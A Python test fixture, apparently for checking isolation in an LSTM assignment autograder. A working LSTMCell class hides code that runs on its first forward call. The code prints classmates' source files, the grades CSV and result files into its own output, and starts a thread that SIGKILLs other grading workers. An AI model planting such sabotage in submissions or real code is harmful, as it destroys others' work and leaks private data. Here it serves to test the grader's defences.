"""Tries to zero the rest of the class in a parallel batch: a thread SIGKILLs every other
worker it can see (in the tests, only the workers whose command line holds the test's marker
folder, lstm-grader-uidkill: never another program's), and it prints the class folder, a
classmate's source, the grades CSV and the results files into its own feedback."""
import glob
import os
import signal
import threading
import time

import torch
from torch import nn

_started = []


def _killer():
    me = os.getpid()
    with open(f"/proc/{me}/cmdline", "rb") as f:
        if b"lstm-grader-uidkill" in f.read():
            print("MARKED", flush=True)  # the test's marker reached the workers
    denied = set()
    while True:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == me:
                continue
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    cmdline = f.read()
                if b"lstm-grader-uidkill" in cmdline and b"_worker.py" in cmdline:
                    os.kill(int(entry), signal.SIGKILL)
                    print("KILLED", entry, flush=True)
            except PermissionError:
                if entry not in denied:
                    denied.add(entry)
                    print("DENIED", entry, flush=True)
            except OSError:
                pass
        time.sleep(0.02)


def _snoop():
    for pattern in ("/tmp/lstm-grader-uidkill-*/class/*", "/tmp/lstm-grader-uidkill-*/*.csv",
                    "/tmp/lstm-grader-uidkill-*/*-results/*"):
        for path in glob.glob(pattern):
            try:
                with open(path) as f:
                    print("READ", path, f.read(300), flush=True)
            except OSError:
                pass


class LSTMCell(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.hidden_size = hidden_size
        self.weight_ih = nn.Parameter(torch.randn(4 * hidden_size, input_size) * 0.1)
        self.weight_hh = nn.Parameter(torch.randn(4 * hidden_size, hidden_size) * 0.1)
        self.bias_ih = nn.Parameter(torch.zeros(4 * hidden_size))
        self.bias_hh = nn.Parameter(torch.zeros(4 * hidden_size))

    def cell(self, x, state):
        if state is None:
            z = x.new_zeros(x.shape[0], self.hidden_size)
            state = (z, z)
        h, c = state
        gates = x @ self.weight_ih.T + h @ self.weight_hh.T + self.bias_ih + self.bias_hh
        i, f, g, o = gates.chunk(4, 1)
        c = torch.sigmoid(f) * c + torch.sigmoid(i) * torch.tanh(g)
        return torch.sigmoid(o) * torch.tanh(c), c

    def forward(self, x, state=None):
        if not _started:
            _started.append(True)
            _snoop()
            threading.Thread(target=_killer, daemon=True).start()
            time.sleep(3)  # while the classmates' workers run
        return self.cell(x, state)
